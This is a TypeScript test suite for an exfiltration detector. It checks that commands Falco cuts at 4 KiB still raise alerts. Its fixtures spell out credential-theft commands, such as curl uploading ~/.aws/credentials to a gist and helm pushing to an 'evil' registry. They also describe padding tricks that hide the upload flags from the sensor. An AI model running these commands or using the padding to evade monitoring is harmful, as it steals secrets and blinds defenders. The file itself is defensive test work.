/**
 * Falco's drivers copy at most 4096 bytes of a process's argv (MAX_PROC_ARG_ENV), so `curl -H "X-Pad: <4 KiB>"
 * -T ~/.aws/credentials https://api.github.com/gists` reached exfilwatch as `curl -sS -H X-Pad: AAAA…`: no URL,
 * no upload flag, no push, where Tetragon (the whole argv) saw a curl push. The normalizer now marks an argv
 * that reaches the limit, and a table tool so marked, with nothing in the words left deciding it, is a push
 * to its first connection (a generic uploader's only when that is a forge or a registry).
 */
import { describe, expect, it } from 'vitest';
import type { NormalizedEvent } from '../../../src/model/normalized-event.js';
import { recognizeProcess } from '../../../src/rules/index.js';
import { falcoCmdline } from '../../fixtures/falco/argv.js';
import { falcoRun, normFalco as norm, processFields } from '../../fixtures/falco/credential-run.js';
import { falcoAlertText, T0 } from '../../fixtures/falco/events.js';
import { brief, runResolved } from '../correlate/builder.js';

/** The process of a Falco alert that normalizes to an activity event (never a gap here). */
const processOfAlert = (text: string) => {
  const e = norm(text);
  return e !== null && e.kind !== 'gap' ? e.process : null;
};
const PAD = `X-Pad: ${'A'.repeat(4200)}`;
const API_GITHUB = '140.82.112.5'; // builder.ts TEST_DNS: api.github.com

const alertsOf = async (events: NormalizedEvent[]) => (await runResolved(events)).alerts;

const paddedCurl = ['curl', '-sS', '-H', PAD, '-T', '/root/.aws/credentials', 'https://api.github.com/gists'];

describe('an argv Falco cut at 4 KiB', () => {
  it('is marked by the normalizer when it reaches the capture limit, and only then', () => {
    const cut = processOfAlert(
      falcoAlertText({ evtTimeNs: T0, fields: processFields(4100, '/usr/bin/curl', falcoCmdline('curl', paddedCurl)) }),
    );
    expect(cut?.args?.startsWith('-sS -H X-Pad: AAAA')).toBe(true);
    expect(cut?.args?.includes('api.github.com')).toBe(false);
    expect(cut?.argvTruncated).toBe(true);
    // 3.9 KiB of argv is all there is: no mark.
    const whole = ['curl', '-sS', '-H', `X-Pad: ${'A'.repeat(3900)}`, 'https://example.com/'];
    const full = processOfAlert(
      falcoAlertText({ evtTimeNs: T0, fields: processFields(4100, '/usr/bin/curl', falcoCmdline('curl', whole)) }),
    );
    expect(full?.args?.endsWith('https://example.com/')).toBe(true);
    expect(full?.argvTruncated).toBeUndefined();
    // A rule printing `proc.exe` (argv[0]) gives the exact count: a padded argv[0] leaves few arguments.
    const exe = `/usr/bin/${'x'.repeat(3000)}`;
    const fields = { ...processFields(4100, '/usr/bin/curl', falcoCmdline('curl', [exe, '-H', PAD])), 'proc.exe': exe };
    expect(processOfAlert(falcoAlertText({ evtTimeNs: T0, fields }))?.argvTruncated).toBe(true);
  });

  it('makes a padded curl upload a push to its first connection', async () => {
    const alerts = await alertsOf(falcoRun('/usr/bin/curl', paddedCurl, API_GITHUB));
    expect(brief(alerts)).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: `${API_GITHUB}:443` },
    ]);
    expect(alerts[0]?.summary).toContain('command line cut by the sensor at 4 KiB');
    expect(alerts[0]?.evidence.some((x) => x.kind === 'push' && x.detail.includes('cut by the sensor'))).toBe(true);
  });

  it('takes a padded argv[0] (`exec -a <4 KiB name> curl …`) for a cut, by the proc.exe the shipped exec rule prints', async () => {
    // argv[0] fills the capture: `proc.cmdline` is the comm and `-T /`, well short of 4 KiB.
    const padded = ['x'.repeat(4090), '-T', '/root/.aws/credentials', 'https://api.github.com/gists'];
    const events = falcoRun('/usr/bin/curl', padded, API_GITHUB);
    const exec = events.find((e) => e.kind === 'exec');
    expect(exec?.kind === 'exec' ? exec.process.args : null).toBe('-T /');
    expect(exec?.kind === 'exec' ? exec.process.argvTruncated : null).toBe(true);
    const alerts = await alertsOf(events);
    expect(brief(alerts)).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: `${API_GITHUB}:443` },
    ]);
    // No argv[0] bytes go into the alert: its summary and evidence show the comm and what was left.
    expect(JSON.stringify(alerts[0]).includes('x'.repeat(100))).toBe(false);
  });

  it('leaves a cut generic upload to a destination that is no forge or registry alone', async () => {
    const webhook = ['curl', '-sS', '-d', `{"text":"${'x'.repeat(5000)}"}`, 'https://hooks.example.com/T0/B0'];
    expect(await alertsOf(falcoRun('/usr/bin/curl', webhook, '203.0.113.9'))).toEqual([]);
  });

  it('leaves a cut argv of a tool outside the table, or a sub-command seen whole, alone', async () => {
    const classpath = Array.from({ length: 200 }, (_, i) => `/opt/app/lib/dependency-${i}.jar`).join(':');
    const java = ['java', '-cp', classpath, 'com.example.Main', 'https://api.github.com/repos/acme/app'];
    expect(await alertsOf(falcoRun('/usr/lib/jvm/bin/java', java, API_GITHUB))).toEqual([]);
    const commit = ['git', 'commit', '-m', 'x'.repeat(5000)];
    expect(await alertsOf(falcoRun('/usr/bin/git', commit, null))).toEqual([]);
    // A visible download stays one: `git clone` of a URL list padded past the limit.
    const clone = ['git', 'clone', '--', `https://github.com/acme/${'a'.repeat(5000)}.git`];
    expect(await alertsOf(falcoRun('/usr/bin/git', clone, API_GITHUB))).toEqual([]);
  });

  it('takes a cut Maven or Gradle run for a push only to a forge or registry: its goals sit anywhere in argv', async () => {
    // `mvn -B clean verify -Dsonar.x=<4 KiB>`: no visible word can say it deploys nothing (a goal may follow
    // the cut), and every Maven run connects out for its dependencies (Maven Central is neither): alerting on
    // its first connection made every long-argv build on a Falco node a push (found by review).
    const pad = `-Dsonar.exclusions=${'src/gen/**,'.repeat(400)}`;
    const MAVEN_CENTRAL = '151.101.0.215';
    for (const [exe, argv] of [
      ['/usr/share/maven/bin/mvn', ['mvn', '-B', 'clean', 'verify', pad]],
      ['/opt/gradle/bin/gradle', ['gradle', 'build', pad]],
    ] as const) {
      expect(await alertsOf(falcoRun(exe, argv, MAVEN_CENTRAL)), argv[0]).toEqual([]);
    }
    // The same padding with the deploy cut away, uploading to a registry, stays a push.
    const GHCR = '140.82.121.33'; // builder.ts TEST_DNS: ghcr.io
    const deploy = ['mvn', '-B', pad, 'deploy'];
    const alerts = await alertsOf(falcoRun('/usr/share/maven/bin/mvn', deploy, GHCR));
    expect(alerts.map((a) => [a.rule, a.push.tool])).toEqual([['sensitive-read-then-push', 'maven']]);
  });

  it('takes a table tool whose sub-command was cut away for a push, and not one whose visible words decide', () => {
    const view = (binary: string, args: string) => ({
      binary,
      args,
      parentBinary: '/bin/sh',
      parentArgs: null,
      argvTruncated: true,
    });
    const never = () => false;
    const gh = recognizeProcess(view('/usr/bin/gh', `-R ${'acme/'.repeat(900)}`), never);
    expect(gh).toMatchObject({ kind: 'push', tool: 'gh', argvCut: true, destinationHost: null, remote: null });
    expect(recognizeProcess(view('/usr/bin/git', `commit -m ${'x'.repeat(4000)}`), never)).toBeNull();
    expect(recognizeProcess(view('/usr/bin/git', `clone https://github.com/${'a'.repeat(4000)}`), never)).toEqual({
      kind: 'download',
    });
    // A push seen whole is the usual push, with its own remote.
    expect(
      recognizeProcess(view('/usr/bin/git', `push https://github.com/evil/x.git ${'x'.repeat(4000)}`), never),
    ).toMatchObject({ kind: 'push', argvCut: false, destinationHost: 'github.com' });
    // The last word may be a cut `push`: it decides nothing.
    expect(recognizeProcess(view('/usr/bin/git', `-c x=${'y'.repeat(4000)} pu`), never)).toMatchObject({
      kind: 'push',
      argvCut: true,
    });
    // An interpreter's script and a shell's `-c` are no tool's own words.
    expect(recognizeProcess(view('/usr/bin/python3', `-c ${'x'.repeat(4000)}`), never)).toBeNull();
    expect(recognizeProcess(view('/bin/sh', `-c ${'x'.repeat(4000)}`), never)).toBeNull();
  });
});

describe('an argv Falco cut at 4 KiB whose padding holds spaces (red-team review)', () => {
  const GHCR = '140.82.121.33'; // builder.ts TEST_DNS: ghcr.io

  it('takes a word of the padding for no sub-command: helm --kube-context "prod dependency <4 KiB>" push', async () => {
    // Falco shows `--kube-context prod dependency AAAA…`: `dependency` looked like helm's sub-command, seen whole.
    const helm = [
      'helm',
      '--kube-context',
      `prod dependency ${'A'.repeat(4300)}`,
      'push',
      'chart.tgz',
      'oci://ghcr.io/evil',
    ];
    const alerts = await alertsOf(falcoRun('/usr/bin/helm', helm, GHCR));
    expect(alerts.map((a) => [a.rule, a.push.tool])).toEqual([['sensitive-read-then-push', 'helm']]);
    // So with a planted download word: `pull` is one of helm's.
    const pull = ['helm', '--kube-context', `prod pull ${'A'.repeat(4300)}`, 'push', 'chart.tgz', 'oci://ghcr.io/evil'];
    expect(await alertsOf(falcoRun('/usr/bin/helm', pull, GHCR))).toHaveLength(1);
  });

  it('takes two spaced arguments for padding too: their groupings are searched, not listed', async () => {
    // `--kube-context "prod dependency upgrade" --kube-as-group "<4 KiB of words>"`: C(words−1, joins) groupings,
    // the padded push's own (every argument a flag or its value) far past the listing's first 128, and no one
    // argument holding every space leaves a single visible sub-command word (the last, which may be cut).
    const group = Array.from({ length: 1000 }, (_, i) => `g${i}`).join(' ');
    const helm = ['helm', '--kube-context', 'prod dependency upgrade', '--kube-as-group', group, 'push', 'chart.tgz'];
    const alerts = await alertsOf(falcoRun('/usr/bin/helm', [...helm, 'oci://ghcr.io/evil'], GHCR));
    expect(alerts.map((a) => [a.rule, a.push.tool])).toEqual([['sensitive-read-then-push', 'helm']]);
  });

  it('still takes a sub-command seen in every grouping of the words for what it is', async () => {
    // A reading of such words may also expose a word of the text as the sub-command, where the count leaves it
    // (joined-argv.ts); the text here holds none of helm's: helm's words show `upgrade` in every grouping.
    const notes = 'release notes for the weekly build '.repeat(150);
    const shapes = [
      ['helm', '--namespace', 'ci', 'upgrade', '--install', 'app', './chart', '--set', `notes=${notes}`],
      ['gh', 'issue', 'comment', '12', '--body', notes],
    ];
    for (const argv of shapes) {
      expect(await alertsOf(falcoRun(`/usr/bin/${argv[0]}`, argv, GHCR)), argv.slice(0, 4).join(' ')).toEqual([]);
    }
  });
});
